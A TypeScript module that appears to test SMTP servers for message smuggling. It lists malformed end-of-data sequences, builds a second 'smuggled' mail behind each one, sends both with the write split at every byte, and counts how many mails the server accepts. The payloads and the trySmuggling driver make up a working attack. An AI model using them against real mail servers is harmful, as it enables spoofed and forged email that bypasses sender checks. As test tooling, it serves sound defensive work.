import { setImmediate as nextTurn } from 'node:timers/promises'
import type { RawSmtp } from './servers.ts'

/** What some server once took for the end of DATA; only CRLF, dot, CRLF is one (RFC 5321, 4.1.1.4). */
export const FALSE_ENDS = [
  '\n.\n',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r',
  '\r.\r\n',
  '\r\n.\r',
  '\n.\r',
  '\r.\n',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\r\n.\r\r\n',
] as const

/** A second mail, for a server that took `end` for the end of the first one. */
export function smuggledMail(end: string, to: string): string {
  return `${end}MAIL FROM:<a@sender.test>\r\nRCPT TO:<${to}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx`
}

/**
 * Sends one mail for each false end and each place where TCP may cut it in two, the second mail behind it.
 *
 * @returns how many mails the server said it took, and what it answered that nobody asked
 */
export async function trySmuggling(
  client: RawSmtp,
  to: string,
  smuggledTo: string,
): Promise<{ sent: number; accepted: number; unasked: string[] }> {
  let accepted = 0
  let sent = 0
  const unasked: string[] = []
  for (const end of FALSE_ENDS) {
    for (let cut = 0; cut <= end.length; cut++) {
      sent++
      await client.say(`MAIL FROM:<a@sender.test>\r\nRCPT TO:<${to}>\r\nDATA\r\n`, 3)
      client.socket.write(`From: a@sender.test\r\nSubject: first\r\n\r\nx${end.slice(0, cut)}`)
      await nextTurn()
      const [reply = ''] = await client.say(`${smuggledMail(end, smuggledTo).slice(cut)}\r\n.\r\n`)
      if (reply.startsWith('250')) accepted++
      // A server that was tricked owes more than one reply by now.
      const [next = ''] = await client.say('HELP\r\n')
      if (!next.startsWith('214')) unasked.push(next)
    }
  }
  return { sent, accepted, unasked }
}
